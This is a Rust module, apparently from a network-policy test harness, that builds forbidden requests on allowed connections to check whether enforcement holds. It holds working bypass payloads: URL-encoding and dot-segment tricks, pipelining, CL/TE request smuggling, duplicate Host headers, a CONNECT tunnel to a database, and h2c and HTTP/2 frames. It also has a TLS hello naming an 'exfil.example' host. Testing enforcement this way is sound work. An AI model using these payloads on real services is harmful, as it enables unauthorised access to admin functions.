//! Requests that a service must not see, on connections that are allowed.
//!
//! Each sends bytes of one shape to a service that the attacker may use. The connection itself is legitimate, so only
//! the token tells whether the forbidden request passed; allowed requests before it carry none.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use super::attempt::{Attempt, NoTarget, NotMade};
use super::packet::{Ends, protocol};
use super::session::client_hello;
use super::targets::Web;

type Made = Result<(), NotMade>;

/// How long an answer is waited for before the next part is sent.
const ANSWER_PATIENCE: Duration = Duration::from_millis(300);

/// GET for the admin path.
pub(super) fn admin_path(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| vec![get(&web.admin_path, web, token)])
}

/// A method that is not allowed, on a path that is.
pub(super) fn forbidden_method(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| vec![request(&web.forbidden_method, &web.allowed_path, web, token)])
}

/// The admin path in absolute form.
pub(super) fn absolute_form(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| vec![get(&format!("http://{}{}", web.host, web.admin_path), web, token)])
}

/// The admin path behind an empty segment.
pub(super) fn double_slash(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| vec![get(&format!("/{}", web.admin_path), web, token)])
}

/// The admin path with an escaped letter.
pub(super) fn escaped_path(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| {
        let (first, rest) =
            (web.admin_path.as_bytes().get(1).copied().unwrap_or(b'a'), web.admin_path.get(2..));
        vec![get(&format!("/%{first:02x}{}", rest.unwrap_or_default()), web, token)]
    })
}

/// The admin path by way of the allowed one, with escaped dot segments.
pub(super) fn dot_segments(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| {
        let up = "/%2e%2e".repeat(web.allowed_path.matches('/').count());
        vec![get(&format!("{}{up}{}", web.allowed_path, web.admin_path), web, token)]
    })
}

/// The admin path with a fragment that some parsers keep.
pub(super) fn fragment(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| vec![get(&format!("{}#{}", web.admin_path, web.allowed_path), web, token)])
}

/// The admin request in the same packet as an allowed one before it.
pub(super) fn pipelined(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| {
        let mut bytes = get(&web.allowed_path, web, "");
        bytes.extend(get(&web.admin_path, web, token));
        vec![bytes]
    })
}

/// The admin request on a connection that has served an allowed one.
pub(super) fn second_request(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| vec![get(&web.allowed_path, web, ""), get(&web.admin_path, web, token)])
}

/// The admin request inside the body of an allowed one, with two lengths that contradict each other.
pub(super) fn smuggled(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| {
        let inner = String::from_utf8_lossy(&get(&web.admin_path, web, token)).into_owned();
        let body = format!("0\r\n\r\n{inner}");
        let head = format!(
            "GET {} HTTP/1.1\r\nhost: {}\r\ncontent-length: {}\r\ntransfer-encoding: chunked\r\n\r\n",
            web.allowed_path,
            web.host,
            body.len()
        );
        vec![(head + &body).into_bytes()]
    })
}

/// HTTP/1.0 without a Host header.
pub(super) fn old_version(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| {
        vec![format!("GET {} HTTP/1.0\r\nx-lab-token: {token}\r\n\r\n", web.admin_path).into()]
    })
}

/// A tunnel by CONNECT through the allowed service.
pub(super) fn connect_method(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| {
        vec![
            format!("CONNECT database:5432 HTTP/1.1\r\nhost: {}\r\nx-lab-token: {token}\r\n\r\n", web.host)
                .into(),
        ]
    })
}

/// Lines that end without a carriage return.
pub(super) fn bare_newlines(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| {
        vec![format!("GET {} HTTP/1.1\nhost: {}\nx-lab-token: {token}\n\n", web.admin_path, web.host).into()]
    })
}

/// The admin request cut in the middle of its path.
pub(super) fn split(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| {
        let bytes = get(&web.admin_path, web, token);
        let (head, tail) = bytes.split_at(8);
        vec![head.to_vec(), tail.to_vec()]
    })
}

/// Empty lines before the admin request.
pub(super) fn leading_newlines(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| vec![[b"\r\n\r\n".as_slice(), &get(&web.admin_path, web, token)].concat()])
}

/// A tab in the place of the space before the path.
pub(super) fn tab(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| vec![request("GET\t", &web.admin_path, web, token)])
}

/// Two hosts, the first of which is allowed.
pub(super) fn two_hosts(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| {
        let text = format!(
            "GET {} HTTP/1.1\r\nhost: {}\r\nhost: admin.internal\r\nx-lab-token: {token}\r\n\r\n",
            web.allowed_path, web.host
        );
        vec![text.into_bytes()]
    })
}

/// HTTP/2 from the first byte.
pub(super) fn http2(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| vec![http2_request(web, token)])
}

/// An upgrade to HTTP/2 on an allowed path, with the admin request of HTTP/2 right behind it.
pub(super) fn http2_upgrade(attempt: &mut Attempt) -> Made {
    send(attempt, |web, token| {
        let mut bytes = format!(
            "GET {} HTTP/1.1\r\nhost: {}\r\nconnection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\n\r\n",
            web.allowed_path, web.host
        )
        .into_bytes();
        bytes.extend(http2_request(web, token));
        vec![bytes]
    })
}

/// A TLS hello, where rules about requests cannot be decided.
pub(super) fn tls(attempt: &mut Attempt) -> Made {
    send(attempt, |_, token| vec![client_hello(Some(&format!("{token}.exfil.example")), [7; 32])])
}

/// Bytes of no protocol that the rules speak of.
pub(super) fn opaque(attempt: &mut Attempt) -> Made {
    send(attempt, |_, token| vec![format!("*2\r\n$4\r\nECHO\r\n$19\r\n{token}\r\n").into()])
}

/// Sends each part and waits for an answer to it before the next.
fn send(attempt: &mut Attempt, parts: impl Fn(&Web, &str) -> Vec<Vec<u8>>) -> Made {
    let web = attempt.targets.web.as_ref().ok_or(NoTarget("web"))?;
    let address = SocketAddr::new(web.address.of(attempt.family), web.port);
    let parts = parts(web, &attempt.token.to_string());
    exchange(attempt, address, parts)
}

/// Sends one part after the other on one connection, each once the one before was answered or nothing came.
pub(super) fn exchange(attempt: &mut Attempt, address: SocketAddr, parts: Vec<Vec<u8>>) -> Made {
    let ends = Ends { source_port: 0, ..attempt.ends(0, address) };
    attempt.announce(protocol::TCP, ends);
    let connected = TcpStream::connect_timeout(&address, attempt.left());
    attempt.note("connected", &connected);
    let Ok(mut stream) = connected else { return Ok(()) };
    for part in parts {
        let written = stream.set_nodelay(true).and_then(|()| stream.write_all(&part));
        attempt.note("sent", &written);
        let patience = (attempt.left() / 2).clamp(Duration::from_millis(1), ANSWER_PATIENCE);
        let _ = stream.set_read_timeout(Some(patience));
        let mut answer = [0; 2048];
        match stream.read(&mut answer) {
            Ok(bytes) => {
                let head =
                    answer[..bytes].split(|byte| matches!(byte, b'\r' | b'\n')).next().unwrap_or_default();
                attempt.local.push(format!("answered `{}`", String::from_utf8_lossy(head).escape_debug()));
            }
            Err(error) => attempt.local.push(format!("no answer: {error}")),
        }
    }
    Ok(())
}

fn get(target: &str, web: &Web, token: &str) -> Vec<u8> {
    request("GET", target, web, token)
}

fn request(method: &str, target: &str, web: &Web, token: &str) -> Vec<u8> {
    let carried = if token.is_empty() { String::new() } else { format!("x-lab-token: {token}\r\n") };
    format!("{method} {target} HTTP/1.1\r\nhost: {}\r\n{carried}\r\n", web.host).into_bytes()
}

/// Preface, empty SETTINGS, and one request whose fields stand as they are, so that the token can be seen.
fn http2_request(web: &Web, token: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86];
    literal(&mut block, 0x04, None, &web.admin_path);
    literal(&mut block, 0x01, None, &web.host);
    literal(&mut block, 0x00, Some("x-lab-token"), token);
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend([0, 0, 0, 4, 0, 0, 0, 0, 0]);
    bytes.extend([0, 0, u8::try_from(block.len()).unwrap_or(u8::MAX), 1, 5, 0, 0, 0, 1]);
    bytes.extend(block);
    bytes
}

/// A field of HPACK without indexing: an index of the static table or a name of its own, then the value.
fn literal(block: &mut Vec<u8>, index: u8, name: Option<&str>, value: &str) {
    block.push(index);
    for text in name.into_iter().chain([value]) {
        block.push(u8::try_from(text.len()).unwrap_or(0) & 0x7f);
        block.extend(text.as_bytes());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::targets::Pair;

    fn web() -> Web {
        Web {
            address: Pair { v4: [10, 0, 0, 1].into(), v6: [0xfd00, 0, 0, 0, 0, 0, 0, 1].into() },
            port: 8080,
            host: "frontend.shop".into(),
            allowed_path: "/api/orders/1".into(),
            admin_path: "/admin/keys".into(),
            forbidden_method: "DELETE".into(),
        }
    }

    #[test]
    fn an_http2_request_frames_its_headers_exactly() {
        let bytes = http2_request(&web(), "bh-0000000000000001");
        let frame = &bytes[24 + 9..];
        assert_eq!(usize::from(frame[2]), frame.len() - 9);
        assert!(frame.ends_with(b"\x13bh-0000000000000001"));
    }

    #[test]
    fn an_allowed_request_before_the_forbidden_one_carries_no_token() {
        assert!(super::super::token::Token::find(&get("/api/orders/1", &web(), ""), 8).is_empty());
    }
}
